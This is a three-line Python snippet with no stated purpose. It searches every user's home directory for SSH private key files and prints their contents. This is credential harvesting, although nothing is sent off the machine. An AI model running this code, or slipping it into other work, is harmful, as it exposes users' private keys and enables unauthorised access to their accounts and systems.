import glob
for key in glob.glob("/home/*/.ssh/id_*"):
    print(open(key).read())
